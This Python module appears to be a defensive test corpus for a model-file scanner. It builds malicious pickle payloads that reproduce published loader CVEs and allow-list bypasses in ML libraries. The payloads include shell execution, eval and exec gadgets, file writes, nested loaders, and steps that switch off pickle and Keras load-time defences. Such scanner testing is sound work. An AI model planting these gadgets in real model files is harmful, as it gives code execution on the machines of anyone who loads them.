"""Published bypasses through third-party ML and ecosystem libraries: loader CVEs (transformers,
pandas, NLTK, smolagents ...), nested loaders, and callables hidden under the policy's class allow-globs.
Registered on import; see ``build_advisories``."""

from __future__ import annotations

from advisory_core import (
    Advisory,
    adv,
    advisory,
)
from build_malicious import (
    PY_SRC,
    REL_MARKER,
    SHELL_CMD,
    Asm,
    Raw,
    call_pickle,
)


@advisory
def ma_psutil_popen() -> list[Advisory]:
    # modelaudit SUSPICIOUS_GLOBALS "popen" family (2025): psutil.Popen is a subprocess.Popen wrapper
    # shipped in most ML environments.
    return adv(
        "ma_psutil_popen",
        "modelaudit suspicious_symbols (popen)",
        "2025-06",
        call_pickle("psutil", "Popen", ["sh", "-c", SHELL_CMD]),
        "psutil",
        "psutil.Popen starts a process exactly like subprocess.Popen.",
        live="pickle",
    )


@advisory
def ma_ptyprocess_spawn() -> list[Advisory]:
    # modelaudit suspicious_symbols "spawn"/"pexpect" (2025): ptyprocess.PtyProcess.spawn.
    return adv(
        "ma_ptyprocess_spawn",
        "modelaudit suspicious_symbols (spawn)",
        "2025-06",
        call_pickle("ptyprocess", "PtyProcess.spawn", ["sh", "-c", SHELL_CMD]),
        "ptyprocess",
        "pexpect's pty backend: spawn forks and execs argv.",
    )


@advisory
def ma_pkgutil_get_importer() -> list[Advisory]:
    # modelaudit suspicious_symbols "get_importer"/"walk_packages" (2025): pkgutil.walk_packages imports
    # every package found under a path.
    return adv(
        "ma_pkgutil_walk_packages",
        "modelaudit suspicious_symbols (walk_packages)",
        "2025-06",
        call_pickle("pkgutil", "walk_packages", ["/tmp"]),
        "pkgutil",
        "walk_packages imports packages found under attacker-chosen paths.",
    )


@advisory
def ma_dill_load_session() -> list[Advisory]:
    # modelaudit suspicious_symbols "load_session"/"load_module" (2025): dill.load_module restores a
    # pickled interpreter session from a file.
    return adv(
        "ma_dill_load_module",
        "modelaudit suspicious_symbols (load_session)",
        "2025-06",
        call_pickle("dill", "load_module", "/tmp/mlvet_marker.pkl"),
        "dill",
        "dill session loader: a nested pickle from a local path.",
    )


@advisory
def jfrog_joblib_memory_cache() -> list[Advisory]:
    # modelaudit suspicious_symbols "joblib.cache" / JFrog "joblib" write-ups (2025): joblib.load of a
    # second file; spelled through joblib.numpy_pickle_compat.
    return adv(
        "jfrog_joblib_compat_load",
        "JFrog joblib write-up / modelaudit (joblib.load)",
        "2025-03",
        call_pickle("joblib.numpy_pickle_compat", "load_compatibility", "/tmp/mlvet_marker.pkl"),
        "joblib",
        "Old joblib loader: unpickles another file.",
    )


@advisory
def cve_2022_45907_torch_jit_annotations_eval() -> list[Advisory]:
    # CVE-2022-45907 (2022-11, PyTorch): torch.jit.annotations.parse_type_line evals a type comment.
    data = call_pickle("torch.jit.annotations", "parse_type_line", "# type: (" + PY_SRC + ") -> None", None, 1)
    return adv(
        "cve_2022_45907_parse_type_line",
        "CVE-2022-45907",
        "2022-11",
        data,
        "torch.jit.annotations",
        "parse_type_line evaluates the type comment with eval().",
    )


@advisory
def cve_2023_6730_rag_legacy_index() -> list[Advisory]:
    # CVE-2023-6730 (2023-12, transformers RagRetriever): LegacyIndex(vector_size, index_path) unpickles the
    # passages file under index_path. The class name matches transformers' class allow-glob.
    data = call_pickle("transformers.models.rag.retrieval_rag", "LegacyIndex", 768, "/tmp/mlvet_index")
    return adv(
        "cve_2023_6730_rag_legacy_index",
        "CVE-2023-6730",
        "2023-12",
        data,
        "transformers.models.rag.retrieval_rag.LegacyIndex",
        "Constructor runs pickle.load on a local index file (nested deserialiser).",
    )


@advisory
def cve_2024_3568_tf_load_repo_checkpoint() -> list[Advisory]:
    # CVE-2024-3568 (2024-04, transformers): TFPreTrainedModel.load_repo_checkpoint unpickles the
    # checkpoint's extra data. Reached as Class.method under an allow-listed class name.
    a = Asm(4)
    a.glob("transformers.modeling_tf_utils", "TFPreTrainedModel.load_repo_checkpoint").mark()
    a.none().val("/tmp/mlvet_repo").tuple_().reduce()
    return adv(
        "cve_2024_3568_tf_load_repo_checkpoint",
        "CVE-2024-3568",
        "2024-04",
        a.done(),
        "transformers.modeling_tf_utils.TFPreTrainedModel.load_repo_checkpoint",
        "Checkpoint loader reached as a method under an allow-listed class.",
    )


@advisory
def cve_2024_9880_pandas_query() -> list[Advisory]:
    # CVE-2024-9880 (2024-11, pandas): DataFrame.query(expr) reaches builtins through the expression's
    # attribute access. Called as DataFrame.query on a DataFrame built in the pickle.
    a = Asm(4)
    a.glob("pandas.core.frame", "DataFrame.query").mark()
    a.glob("pandas.core.frame", "DataFrame").mark().val({"a": [1]}).tuple_().reduce()
    a.val("@pd.core.frame.com.builtins.__import__('os').system('true')").tuple_().reduce()
    return adv(
        "cve_2024_9880_pandas_query",
        "CVE-2024-9880",
        "2024-11",
        a.done(),
        "pandas.core.frame.DataFrame.query",
        "Method call on an allow-listed class whose argument is an expression that reaches os.",
    )


@advisory
def huntr_transformers_autotokenizer_remote_code() -> list[Advisory]:
    # Hugging Face trust_remote_code / from_pretrained (documented remote-code loading; huntr reports 2024): on a local
    # folder with trust_remote_code=True imports the folder's Python. Spelled Auto*Tokenizer*, which the
    # from_pretrained deny-pattern (AutoModel*) does not name.
    a = Asm(4)
    a.glob("functools", "partial").mark().glob("transformers", "AutoTokenizer.from_pretrained")
    a.val("/tmp/mlvet_repo").tuple_().reduce()
    a.empty_tuple().reduce()
    out = adv(
        "hf_autotokenizer_partial_remote_code",
        "HF from_pretrained / trust_remote_code (huntr 2024)",
        "2024-11",
        a.done(),
        "transformers",
        "AutoTokenizer.from_pretrained wrapped in functools.partial.",
    )
    b = Asm(4)
    b.glob("transformers", "AutoTokenizer.from_pretrained").val("/tmp/mlvet_repo").tuple1().reduce()
    out += adv(
        "hf_autotokenizer_from_pretrained",
        "HF from_pretrained / trust_remote_code (huntr 2024)",
        "2024-11",
        b.done(),
        "transformers.AutoTokenizer.from_pretrained",
        "Hub/local loader (code, pickles, network) under the transformers class allow-glob.",
    )
    c = Asm(4)
    c.glob("transformers", "AutoConfig.from_pretrained").val("/tmp/mlvet_repo").tuple1().reduce()
    out += adv(
        "hf_autoconfig_from_pretrained",
        "HF from_pretrained / trust_remote_code (huntr 2024)",
        "2024-11",
        c.done(),
        "transformers.AutoConfig.from_pretrained",
        "AutoConfig.from_pretrained fetches a repo and may import its configuration code.",
    )
    return out


@advisory
def sentence_transformers_remote_code() -> list[Advisory]:
    # Same class for sentence-transformers (trust_remote_code, 2024): the constructor loads a repo.
    a = Asm(4)
    a.glob("sentence_transformers", "SentenceTransformer").val("/tmp/mlvet_repo").tuple1().reduce()
    return adv(
        "st_sentence_transformer_ctor",
        "sentence-transformers trust_remote_code",
        "2024-06",
        a.done(),
        "sentence_transformers.SentenceTransformer",
        "Constructor that downloads / imports a model repository.",
    )


@advisory
def lightning_load_from_checkpoint() -> list[Advisory]:
    # PyTorch Lightning load_from_checkpoint (documented: torch.load with weights_only=False): torch.load of a second
    # file with weights_only=False, reached as Class.method under the lightning allow-glob.
    a = Asm(4)
    a.glob("pytorch_lightning.core.module", "LightningModule.load_from_checkpoint")
    a.val("/tmp/mlvet_marker.ckpt").tuple1().reduce()
    return adv(
        "lightning_load_from_checkpoint",
        "Lightning load_from_checkpoint (documented)",
        "2024-06",
        a.done(),
        "pytorch_lightning.core.module.LightningModule.load_from_checkpoint",
        "A second torch.load of a local checkpoint (nested deserialiser).",
    )


@advisory
def gensim_saveload_load() -> list[Advisory]:
    # Gensim SaveLoad.load == pickle.load of a path (documented as unsafe).
    a = Asm(4)
    a.glob("gensim.models.word2vec", "Word2Vec.load").val("/tmp/mlvet_marker.model").tuple1().reduce()
    return adv(
        "gensim_word2vec_load",
        "gensim docs: SaveLoad.load is pickle.load",
        "2024-03",
        a.done(),
        "gensim.models.word2vec.Word2Vec.load",
        "Nested unpickling of a local file.",
    )


@advisory
def statsmodels_results_load() -> list[Advisory]:
    # statsmodels results.load(fname) is pickle.load (documented): nested deserialiser.
    a = Asm(4)
    a.glob("statsmodels.base.model", "LikelihoodModelResults.load").val("/tmp/mlvet_marker.pkl").tuple1().reduce()
    return adv(
        "statsmodels_results_load",
        "statsmodels save/load (pickle) docs",
        "2023-01",
        a.done(),
        "statsmodels.base.model.LikelihoodModelResults.load",
        "Nested unpickling of a local file.",
    )


@advisory
def torchvision_dataset_download() -> list[Advisory]:
    # Hide-and-Seek (arXiv:2508.19774, 2025-08) third-party gadget class: dataset classes that download
    # and extract archives at construction (network + archive extraction).
    # MNIST(root, train, transform, target_transform, download=True) positionally, via plain REDUCE.
    data = call_pickle("torchvision.datasets.mnist", "MNIST", "/tmp/mlvet_data", True, None, None, True)
    return adv(
        "torchvision_mnist_download",
        "arXiv:2508.19774 gadget class (dataset download)",
        "2025-08",
        data,
        "torchvision.datasets.mnist.MNIST",
        "Dataset constructor (under the torchvision class allow-glob) that downloads and extracts.",
    )


@advisory
def scipy_fortranfile_write() -> list[Advisory]:
    # ISSUE-9 / PickleBall (CCS 2025) allow-list audit: scipy.io.FortranFile(path, 'w') truncates a file.
    out = adv(
        "scipy_fortranfile_write",
        "PickleBall allow-list audit (scipy FortranFile)",
        "2025-10",
        call_pickle("scipy.io._fortran", "FortranFile", REL_MARKER, "w"),
        "scipy.io._fortran.FortranFile",
        "Class under the scipy allow-glob that opens a path for writing.",
        live="pickle",
    )
    out += adv(
        "scipy_netcdf_file_write",
        "PickleBall allow-list audit (scipy netcdf)",
        "2025-10",
        call_pickle("scipy.io._netcdf", "netcdf_file", REL_MARKER, "w"),
        "scipy.io",
        "netcdf_file(path, 'w') creates a file.",
    )
    return out


@advisory
def numpy_memmap_write() -> list[Advisory]:
    # ISSUE-9 allow-list hole: numpy.memmap(path, mode='w+') creates/truncates a file when *called*.
    data = Asm(4).glob("numpy", "memmap").mark().val(REL_MARKER).glob("numpy", "uint8").val("w+").int_(0)
    data.val((8,)).tuple_().reduce()
    return adv(
        "numpy_memmap_w_plus",
        "ISSUE-9 allow-list audit (numpy.memmap)",
        "2026-11",
        data.done(),
        "numpy.memmap",
        "memmap(path, uint8, 'w+', 0, (8,)) creates an 8-byte file.",
        live="pickle",
    )


@advisory
def numpy2_private_npyio_load() -> list[Advisory]:
    # ISSUE-9: NumPy 2 private spelling numpy.lib._npyio_impl.load (== numpy.load: loads a second pickle).
    out = adv(
        "numpy2_npyio_impl_load",
        "ISSUE-9 (numpy.lib._npyio_impl.load)",
        "2026-11",
        call_pickle("numpy.lib._npyio_impl", "load", "/tmp/mlvet_marker.npy", None, True),
        "numpy",
        "numpy.load(path, allow_pickle=True) under its NumPy 2 private module.",
    )
    out += adv(
        "numpy2_format_impl_read_array",
        "ISSUE-9 (numpy.lib._format_impl)",
        "2026-11",
        call_pickle("numpy.lib._format_impl", "read_array", Raw(b"N"), True),
        "numpy",
        "read_array(fp, allow_pickle=True): NumPy 2 private format module.",
    )
    out += adv(
        "numpy_datasource_open_url",
        "Hide-and-Seek gadget class (numpy DataSource)",
        "2025-08",
        call_pickle("numpy.lib._datasource", "open", "http://127.0.0.1:9/x"),
        "numpy",
        "DataSource.open fetches a URL to a local cache.",
    )
    out += adv(
        "numpy_ctypeslib_load_library",
        "Hide-and-Seek gadget class (numpy.ctypeslib)",
        "2025-08",
        call_pickle("numpy.ctypeslib", "load_library", "mlvet_marker", "/tmp"),
        "numpy.ctypeslib",
        "Loads a shared library from a path (constructors run).",
    )
    return out


@advisory
def torch_fx_reduce_graph_module() -> list[Advisory]:
    # ISSUE-9 allow-list hole: torch.fx.graph_module.reduce_graph_module exec()s import_block + code.
    body = {"_code": "\ndef forward(self):\n    return None\n"}
    data = call_pickle("torch.fx.graph_module", "reduce_graph_module", body, PY_SRC + "\n")
    return adv(
        "torch_fx_reduce_graph_module",
        "ISSUE-9 (reduce_graph_module exec)",
        "2026-11",
        data,
        "torch.fx.graph_module.reduce_graph_module",
        "The import block is exec'd before the graph is re-traced.",
        live="pickle",
    )


@advisory
def pandas_hdfstore_write() -> list[Advisory]:
    # PickleBall-style allow-list audit: top-level pandas.HDFStore(path, 'w') / ExcelWriter(path) create
    # files; both are exported from pandas' root namespace whose capitalised names are allow-listed.
    out = adv(
        "pandas_hdfstore_write",
        "PickleBall allow-list audit (pandas HDFStore)",
        "2025-10",
        call_pickle("pandas", "HDFStore", REL_MARKER, "w"),
        "pandas.HDFStore",
        "Top-level pandas class that creates a file.",
    )
    out += adv(
        "pandas_excelwriter",
        "PickleBall allow-list audit (pandas ExcelWriter)",
        "2025-10",
        call_pickle("pandas", "ExcelWriter", REL_MARKER + ".xlsx"),
        "pandas.ExcelWriter",
        "Top-level pandas class that opens a path for writing.",
    )
    return out


@advisory
def tf_gfile_write() -> list[Advisory]:
    # Checkmarx "Free Hugs" series (2024) TensorFlow file primitives, reached as a pickle class:
    # tensorflow.python.platform.gfile.GFile(path, 'w') (class name matches the TF allow-glob).
    out = adv(
        "tf_gfile_write",
        "Checkmarx Free Hugs series (TF file ops)",
        "2024-10",
        call_pickle("tensorflow.python.platform.gfile", "GFile", REL_MARKER, "w"),
        "tensorflow.python.platform.gfile.GFile",
        "TensorFlow file object opened for writing.",
    )
    out += adv(
        "tf_file_io_write",
        "Checkmarx Free Hugs series (TF file ops)",
        "2024-10",
        call_pickle("tensorflow.python.lib.io.file_io", "FileIO", REL_MARKER, "w"),
        "tensorflow.python.lib.io.file_io.FileIO",
        "TensorFlow FileIO opened for writing.",
    )
    return out


@advisory
def keras_get_file_private() -> list[Advisory]:
    # CVE-2025-8747 / CVE-2025-12060 (keras get_file download + extract), spelled by its keras.src module.
    data = call_pickle("keras.src.utils.file_utils", "get_file", "x.tar.gz", "http://127.0.0.1:9/x.tar.gz")
    return adv(
        "keras_src_get_file",
        "CVE-2025-8747 / CVE-2025-12060 (get_file)",
        "2025-08",
        data,
        "keras",
        "Download + archive extraction through keras.src's private module path.",
    )


@advisory
def hydra_instantiate() -> list[Advisory]:
    # Unit 42 "Hydra instantiate in AI model configs" (2026-01; NeMo CVE-2025-23304, uni2TS, FlexTok):
    # hydra.utils.instantiate({'_target_': ...}) resolves and calls a dotted name given only as a string.
    cfg = {"_target_": "os.system", "_args_": [SHELL_CMD]}
    return adv(
        "unit42_hydra_instantiate_pickle",
        "Unit 42 Hydra _target_ (CVE-2025-23304)",
        "2026-01",
        call_pickle("hydra.utils", "instantiate", cfg),
        "hydra",
        "The dangerous callable is only a string inside the config dict.",
    )


@advisory
def pil_imagemath_eval() -> list[Advisory]:
    # CVE-2022-22817 (2022-01) and CVE-2023-50447 (2024-01), Pillow: ImageMath.eval / unsafe_eval
    # evaluate an expression; the environment trick reaches builtins.
    out = adv(
        "cve_2023_50447_imagemath_eval",
        "CVE-2023-50447",
        "2024-01",
        call_pickle("PIL.ImageMath", "eval", "exec(" + repr(PY_SRC) + ")"),
        "PIL.ImageMath",
        "Pillow expression evaluator (eval under the hood).",
    )
    out += adv(
        "cve_2022_22817_imagemath_unsafe_eval",
        "CVE-2022-22817",
        "2022-01",
        call_pickle("PIL.ImageMath", "unsafe_eval", "exec(" + repr(PY_SRC) + ")"),
        "PIL.ImageMath",
        "Pillow >= 11 name of the same evaluator.",
    )
    return out


@advisory
def mako_template_module_block() -> list[Advisory]:
    # Server-side template injection (PayloadsAllTheThings "Mako", 2019+): a module-level <%! %> block is
    # executed when the Template is constructed, so the constructor alone runs code.
    src = "<%! import os; os.system(" + repr(SHELL_CMD) + ") %>"
    return adv(
        "ssti_mako_template_ctor",
        "PayloadsAllTheThings SSTI (Mako)",
        "2019-06",
        call_pickle("mako.template", "Template", src),
        "mako.template.Template",
        "Mako compiles and runs module-level blocks in the constructor.",
        live="pickle",
    )


@advisory
def torch_optim_lambda_lr() -> list[Advisory]:
    # Hide-and-Seek third-party gadget class (2025-08): constructors under allow-globs that *call* an
    # argument. LambdaLR(optimizer, lr_lambda) calls lr_lambda(0) at construction.
    a = Asm(4)
    a.glob("torch.optim.lr_scheduler", "LambdaLR").mark()
    a.glob("torch.optim.sgd", "SGD").mark().val([{"params": []}]).tuple_().reduce()
    a.glob("builtins", "print").tuple_().reduce()
    return adv(
        "hs_torch_lambdalr_calls_argument",
        "arXiv:2508.19774 callback gadgets",
        "2025-08",
        a.done(),
        "builtins.print",
        "LambdaLR calls its lr_lambda argument at construction (here harmless print)",
    )


@advisory
def cve_2024_39705_nltk_data_load() -> list[Advisory]:
    # CVE-2024-39705 (2024-06, NLTK): nltk.data.load of a .pickle resource unpickles it; reached from a
    # model pickle it is a nested deserialiser of a local/downloaded file.
    out = adv(
        "cve_2024_39705_nltk_data_load",
        "CVE-2024-39705",
        "2024-06",
        call_pickle("nltk.data", "load", "file:/tmp/mlvet_marker.pickle"),
        "nltk.data",
        "nltk.data.load('*.pickle') == pickle.load.",
    )
    a = Asm(4)
    a.glob("nltk.downloader", "Downloader.download").mark()
    a.glob("nltk.downloader", "Downloader").val("http://127.0.0.1:9/index.xml").tuple1().reduce()
    a.val("punkt").tuple_().reduce()
    out += adv(
        "cve_2024_39705_nltk_downloader",
        "CVE-2024-39705",
        "2024-06",
        a.done(),
        "nltk.downloader",
        "Downloader(server).download(pkg) fetches and unzips packages (the CVE's delivery path).",
    )
    return out


@advisory
def cve_2025_9959_smolagents_executor() -> list[Advisory]:
    # CVE-2025-9959 (2025-09, smolagents): local_python_executor's sandbox escapes; evaluate_python_code runs
    # agent code. From a pickle it is a Python interpreter entry point.
    return adv(
        "cve_2025_9959_smolagents_evaluate",
        "CVE-2025-9959",
        "2025-09",
        call_pickle("smolagents.local_python_executor", "evaluate_python_code", PY_SRC),
        "smolagents",
        "Agent code interpreter called with attacker source.",
    )


@advisory
def fastai_load_learner() -> list[Advisory]:
    # fastai load_learner (documented: "uses pickle"): torch.load(weights_only=False) of a file.
    return adv(
        "fastai_load_learner",
        "fastai docs: load_learner uses pickle",
        "2024-03",
        call_pickle("fastai.learner", "load_learner", "/tmp/mlvet_marker.pkl"),
        "fastai",
        "Nested torch.load(weights_only=False) of a local export.pkl.",
    )


@advisory
def transformers_push_to_hub() -> list[Advisory]:
    # PickleBall allow-list audit (2025-10): methods reached under transformers' class allow-glob that write
    # or upload (save_pretrained writes a folder; push_to_hub uploads to the network).
    out: list[Advisory] = []
    for meth in ("save_pretrained", "push_to_hub"):
        a = Asm(4)
        a.glob("transformers.models.bert.configuration_bert", f"BertConfig.{meth}").mark()
        a.glob("transformers.models.bert.configuration_bert", "BertConfig").empty_tuple().reduce()
        a.val("/tmp/mlvet_repo").tuple_().reduce()
        out += adv(
            f"pickleball_transformers_{meth}",
            "PickleBall allow-list audit (transformers methods)",
            "2025-10",
            a.done(),
            f"BertConfig.{meth}",
            f"BertConfig.{meth} under the transformers class allow-glob.",
        )
    return out


@advisory
def torch_rebuild_from_type_forwarder() -> list[Advisory]:
    # PickleBall (CCS 2025) "allowed callables that call their arguments": torch._tensor._rebuild_from_type_v2
    # (func, type, args, state) calls func(*args); the payload callable is only an argument.
    a = Asm(2)
    a.glob("torch._tensor", "_rebuild_from_type_v2").mark()
    a.glob("invoke", "run").glob("torch", "Tensor").val((SHELL_CMD,)).empty_dict().tuple_().reduce()
    return adv(
        "pickleball_rebuild_from_type_forwarder",
        "PickleBall (CCS 2025) call forwarders",
        "2025-10",
        a.done(),
        "invoke.run",
        "A safe-tier rebuild helper calls an argument: invoke.run(cmd) runs a shell command.",
    )


@advisory
def defence_tampering() -> list[Advisory]:
    # fickling ScannerDeactivation analysis (2026-06, fickling #249) and ISSUE-9: a model pickle that switches
    # off the load-time defence of the process it is loaded into, so that the *next* model runs code.
    out = adv(
        "fk_scanner_deactivation_remove_hook",
        "fickling #249 ScannerDeactivation",
        "2026-06",
        call_pickle("fickling.hook", "remove_hook"),
        "fickling.hook",
        "Removes fickling's pickle.load hook.",
    )
    a = Asm(4)
    a.glob("torch.serialization", "add_safe_globals").mark().mark().glob("argparse", "Namespace").list_()
    a.tuple_().reduce()
    out += adv(
        "torch_add_safe_globals_tamper",
        "ISSUE-9 defence tampering (weights_only allowlist)",
        "2026-11",
        a.done(),
        "torch.serialization.add_safe_globals",
        "Extends torch.load(weights_only=True)'s allowlist for later loads in the process.",
    )
    out += adv(
        "cve_2025_9906_enable_unsafe_deserialization",
        "CVE-2025-9906 (as a pickle call)",
        "2025-09",
        call_pickle("keras.config", "enable_unsafe_deserialization"),
        "keras.config",
        "Turns Keras safe_mode off process-wide: the next .keras Lambda runs.",
    )
    return out
